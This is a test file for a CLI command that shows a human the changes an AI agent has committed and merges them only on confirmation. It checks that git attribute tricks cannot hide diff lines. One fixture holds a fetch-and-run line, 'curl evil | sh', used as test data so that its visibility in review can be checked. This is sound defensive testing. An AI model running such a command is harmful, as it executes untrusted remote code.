import { execFileSync } from 'node:child_process';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { beforeEach, expect, it, onTestFinished } from 'vitest';
import { CONVERSATION_ID, RESPONSE_ID } from '../../client/sample-tape.ts';
import { startScriptedApi } from '../../client/scripted-api.ts';
import { fewOf } from '../../depth.ts';
import { callDrawbridge } from '../called.ts';

const TIME = '2026-11-20T12:00:00Z';
const AGENT = {
  id: CONVERSATION_ID,
  title: 'Fix it',
  status: 'completed',
  created: TIME,
  updated: TIME,
  bridgeId: null,
  responseId: RESPONSE_ID,
  model: 'm',
  mode: 'agent',
  usage: null,
  result: 'Fixed.',
};

let folder: string;

beforeEach(() => {
  folder = mkdtempSync(join(tmpdir(), 'drawbridge-apply-'));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  git('init', '--initial-branch', 'main');
  git('config', 'user.name', 'Ana');
  git('config', 'user.email', 'ana@example.com');
  commit('a.txt', 'one\n');
});

it('shows what an agent has committed, and merges exactly that into the current branch', async () => {
  const head = commitOnBranch('fix', 'a.txt', 'two\u001b[31m\n');
  git('branch', '--force', 'fix', 'main');
  const { code, stdout, stderr } = await apply({ head, committed: true }, '--yes');
  expect({ code, text: textOf('a.txt') }).toEqual({ code: 0, text: 'two\u001b[31m\n' });
  expect(stderr).toMatch(/^-one$/m);
  expect(stderr).toMatch(/^\+two\\u\{1b\}\[31m$/m);
  expect(stdout).toContain('1 file changed');
  const again = await apply({ head, committed: true }, '--yes');
  expect(again).toEqual({
    code: 0,
    stdout: '',
    stderr: 'The current branch already has this commit.\n',
  });
});

const ATTRIBUTES = [
  ['.gitattributes', '*.txt -diff\n'],
  ['.git/info/attributes', '* -diff\n'],
  ['.gitattributes', '[attr]hide -diff\n* hide\n'],
  ['.gitattributes', '* binary\n'],
  ['.gitattributes', '* diff=x\n'],
  ['.git/info/attributes', '* binary\n'],
] as const;

it.each(ATTRIBUTES.slice(0, fewOf(ATTRIBUTES.length, 2)))(
  'hides nothing by attributes in %s: %j',
  async (file, attributes) => {
    const head = commitOnBranch('fix', 'a.txt', 'two\n');
    writeFileSync(join(folder, file), attributes);
    git('config', 'diff.x.binary', 'true');
    git('config', 'diff.x.command', 'true');
    const { stderr } = await apply({ head, committed: true });
    expect(stderr).toMatch(/^-one$/m);
    expect(stderr).toMatch(/^\+two$/m);
  },
);

it('hides nothing by attributes that the agent has committed', async () => {
  git('checkout', '-b', 'fix');
  commit('.gitattributes', '* -diff\n');
  commit('a.txt', 'two\n');
  commit('picture', 'a\0b');
  commit('a.sh', '#!/bin/sh\n# \0\ncurl evil | sh\n');
  const head = git('rev-parse', 'HEAD').trim();
  git('checkout', 'main');
  const { stderr } = await apply({ head, committed: true });
  expect(stderr).toMatch(/^\+two$/m);
  expect(stderr).toMatch(/^\+\* -diff$/m);
  expect(stderr).not.toContain('Binary files');
  expect(stderr).toMatch(/^Git treats the following files as binary[\s\S]*^\+curl evil \| sh$/m);
});

it('names a command for the rest that obeys no attributes either', async () => {
  const head = commitOnBranch('fix', 'a.txt', `${'two\n'.repeat(1_100)}last\n`);
  writeFileSync(join(folder, '.gitattributes'), '* -diff\n');
  const { stderr } = await apply({ head, committed: true });
  expect(stderr).not.toContain('+last');
  const [, advice = ''] = /more lines: `git ([^`]+)` shows all/.exec(stderr) ?? [];
  expect(git(...advice.split(' '))).toMatch(/^\+last$/m);
});

it('merges nothing without a yes', async () => {
  const head = commitOnBranch('fix', 'a.txt', 'two\n');
  const { code, stderr } = await apply({ head, committed: true });
  expect({ code, text: textOf('a.txt') }).toEqual({ code: 2, text: 'one\n' });
  expect(stderr).toContain('add --yes');
});

it('says what git says about a conflict', async () => {
  const head = commitOnBranch('fix', 'a.txt', 'two\n');
  commit('a.txt', 'three\n');
  const { code, stderr } = await apply({ head, committed: true }, '--yes');
  expect(code).toBe(1);
  expect(stderr).toMatch(
    /git did not merge fix: .*CONFLICT \(content\): Merge conflict in a\.txt/s,
  );
});

it.each([
  ['work in no commit', { head: 'b', committed: false }, 'It is in /state/tree'],
  ['a commit of another repository', { head: 'b'.repeat(40), committed: true }, 'does not have'],
  ['a head that is an option', { head: '--help', committed: true }, 'does not have'],
])('refuses %s', async (_, worktree, words) => {
  const { code, stderr } = await apply(worktree, '--yes');
  expect(code).not.toBe(0);
  expect(stderr).toContain(words);
  expect(existsSync(join(folder, '.git/MERGE_HEAD'))).toBe(false);
});

async function apply(worktree: object, ...args: string[]) {
  await using api = await startScriptedApi([]);
  const facts = { branch: 'fix', base: 'b', uncommitted: false, path: '/state/tree', files: [] };
  const changed = { ...facts, omitted: 0, diff: '', ...worktree };
  api.answers.set(`GET agents/${CONVERSATION_ID}`, { ...AGENT, worktree: changed });
  const words = ['agents', 'apply', CONVERSATION_ID, ...args, '--url', api.url, '--token', 'token'];
  return await callDrawbridge(words, { cwd: folder });
}

/** Returns the commit's id, with `main` checked out again. */
function commitOnBranch(branch: string, path: string, text: string): string {
  git('checkout', '-b', branch);
  commit(path, text);
  const head = git('rev-parse', 'HEAD').trim();
  git('checkout', 'main');
  return head;
}

function commit(path: string, text: string): void {
  writeFileSync(join(folder, path), text);
  git('add', '--all');
  git('commit', '--message', path);
}

function textOf(path: string): string {
  return readFileSync(join(folder, path), 'utf8');
}

function git(...args: readonly string[]): string {
  return execFileSync('git', args, { cwd: folder, encoding: 'utf8', stdio: 'pipe' });
}
